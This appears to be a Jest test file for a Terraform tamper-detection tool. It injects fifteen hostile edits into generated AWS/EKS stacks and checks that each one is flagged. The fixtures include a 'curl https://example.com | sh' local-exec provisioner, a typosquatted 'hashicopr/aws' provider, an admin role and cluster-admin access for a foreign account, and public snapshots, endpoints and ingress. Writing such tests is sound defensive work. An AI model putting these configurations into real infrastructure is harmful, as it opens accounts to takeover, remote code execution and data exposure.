import { EditedOutput, type Found, type Report, type Stack } from "../../../support/edited-output";

const NAME = "ml-platform";

/** A block of a stack that an attack adds or changes. */
interface Attack {
  readonly what: string;
  readonly layer: string;
  /** The block that the finding names. */
  readonly address: string;
  /** The words of the finding. */
  readonly says: RegExp;
  readonly edit: (stack: Stack) => void;
}

const ANYONE = "arn:aws:iam::666677778888:role/stranger";

const ADDED = /^a block that the inputs do not lead to/;

/** An attack that adds a resource. */
const adding = (what: string, layer: string, type: string, config: object): Attack => ({
  what,
  layer,
  address: `${type}.attack`,
  says: ADDED,
  edit: ({ resource }) => (resource[type] = { ...resource[type], attack: config }),
});

const BLOCKS: readonly Attack[] = [
  adding("a role with AdministratorAccess", "cluster", "aws_iam_role", {
    name: "attack",
    assume_role_policy: JSON.stringify({ Statement: [{ Effect: "Allow", Principal: { AWS: ANYONE } }] }),
    managed_policy_arns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
  }),
  adding("a stranger as cluster admin", "cluster", "aws_eks_access_policy_association", {
    cluster_name: "${aws_eks_cluster.main.name}",
    principal_arn: ANYONE,
    policy_arn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
    access_scope: { type: "cluster" },
  }),
  {
    what: "an SSH key",
    layer: "cluster",
    address: "aws_launch_template.general",
    says: /key_name: not set → stranger/,
    edit: ({ resource }) => (resource.aws_launch_template.general.key_name = "stranger"),
  },
  {
    what: "a foreign AMI",
    layer: "cluster",
    address: "aws_launch_template.forecast",
    says: /image_id: not set → ami-0123456789abcdef0/,
    edit: ({ resource }) => (resource.aws_launch_template.forecast.image_id = "ami-0123456789abcdef0"),
  },
  {
    what: "a program on the machine of the deployer",
    layer: "cluster",
    address: "aws_launch_template.reserved",
    says: /provisioner: not set → .*curl/,
    edit: ({ resource }) =>
      (resource.aws_launch_template.reserved.provisioner = [
        { "local-exec": { command: "curl https://example.com | sh" } },
      ]),
  },
  {
    what: "a provider of a stranger",
    layer: "network",
    address: "terraform",
    says: /required_providers\.aws\.source: (hashicorp\/)?aws → hashicopr\/aws/,
    edit: ({ terraform }) => (terraform.required_providers.aws.source = "hashicopr/aws"),
  },
  {
    what: "a module of a stranger",
    layer: "network",
    address: "module.attack",
    says: ADDED,
    edit: (stack) => (stack.module = { attack: { source: "git::https://example.com/module.git" } }),
  },
  adding("a database snapshot for everyone", "network", "aws_db_snapshot", {
    db_instance_identifier: "main",
    db_snapshot_identifier: "copy",
    shared_accounts: ["all"],
  }),
  adding("a public function URL", "network", "aws_lambda_function_url", {
    function_name: "main",
    authorization_type: "NONE",
  }),
  adding("the account's public access block off", "state", "aws_s3_account_public_access_block", {
    block_public_acls: false,
  }),
  {
    what: "no default-deny",
    layer: "models",
    address: "kubernetes_network_policy_v1.models_default_deny",
    says: /count: not set → 0/,
    edit: ({ resource }) => (resource.kubernetes_network_policy_v1.models_default_deny.count = 0),
  },
  {
    what: "no block of public access to a bucket",
    layer: "state",
    address: "aws_s3_bucket_public_access_block.state_bucket",
    says: /count: not set → 0/,
    edit: ({ resource }) => (resource.aws_s3_bucket_public_access_block.state_bucket.count = 0),
  },
  adding("a peering to a stranger", "network", "aws_vpc_peering_connection", {
    vpc_id: "${aws_vpc.main.id}",
    peer_vpc_id: "vpc-0123456789abcdef0",
    peer_owner_id: "666677778888",
  }),
];

const FILES: readonly (readonly [layer: string, name: string, says: RegExp, text: string])[] = [
  [
    "network",
    "extra.tf",
    /^configuration that synth did not write/,
    'resource "aws_security_group_rule" "all" {\n  type = "ingress"\n  cidr_blocks = ["0.0.0.0/0"]\n}\n',
  ],
  [
    "cluster",
    "open_override.tf.json",
    /^an override that synth did not write/,
    '{"resource": {"aws_eks_cluster": {"main": {"vpc_config": {"endpoint_public_access": true}}}}}',
  ],
];

const EXPECTED = [
  ...BLOCKS.map(({ layer, address }) => `${NAME}-${layer} ${address}`),
  ...FILES.map(([layer, name]) => `${NAME}-${layer} ${name}`),
];

let output: EditedOutput;
let report: Report & { readonly status: number };
let text: string;

beforeAll(async () => {
  output = await EditedOutput.of(NAME);
  for (const { layer, edit } of BLOCKS) output.editStack(`${NAME}-${layer}`, edit);
  for (const [layer, name, , content] of FILES) output.write(`stacks/${NAME}-${layer}/${name}`, content);
  report = output.report();
  text = output.check().stdout;
});

const edited = (): Found[] => report.findings.filter(({ check }) => check === "edited");

test("fifteen attacks at once are fifteen edits, each named once, and the check fails", () => {
  expect(EXPECTED).toHaveLength(15);
  expect(
    edited()
      .map(({ stack, address }) => `${stack} ${address}`)
      .sort(),
  ).toEqual([...EXPECTED].sort());
  expect(report.status).toBe(1);
});

test.each(BLOCKS.map((each) => [each.what, each] as const))("%s: block and argument", (_, attack) => {
  const found = edited().find(({ address }) => address === attack.address);
  expect(found?.message).toMatch(attack.says);
});

test.each(FILES)("%s/%s: the file", (layer, name, says) => {
  expect(edited().find(({ address }) => address === name)?.message).toMatch(says);
  expect(edited().find(({ address }) => address === name)?.stack).toBe(`${NAME}-${layer}`);
});

test("each edit has a fix that removes it, and one that keeps it in an own file", () => {
  const role = edited().find(({ address }) => address === "aws_iam_role.attack");
  expect(role?.fix).toBe(
    "run npx private-eks-inference synth, or move the block to a file in ml-platform/cluster/ beside ml-platform.yaml",
  );
});

test("the edits come first; what only the edited output has follows from them", () => {
  const first = report.findings.findIndex(({ check }) => check !== "edited");
  expect(report.findings.slice(first).filter(({ check }) => check === "edited")).toEqual([]);
  const following = report.findings.filter(({ follows }) => follows);
  expect(following.length).toBeGreaterThan(0);
  expect(report.findings.slice(first, first + following.length)).toEqual(following);
  const line = text.indexOf("these follow from the edits");
  expect(line).toBeGreaterThan(text.lastIndexOf(" edited "));
});

test("the findings of the inputs follow from no edit", () => {
  const waived = report.findings.filter((each) => "waiver" in each);
  expect(waived.length).toBeGreaterThan(0);
  expect(waived.filter(({ follows }) => follows)).toEqual([]);
});

test("one environment is judged alone", () => {
  expect(report.origins).toEqual([
    {
      environment: NAME,
      compared: "inputs",
      text: expect.stringContaining(output.copy.environments) as string,
    },
  ]);
});
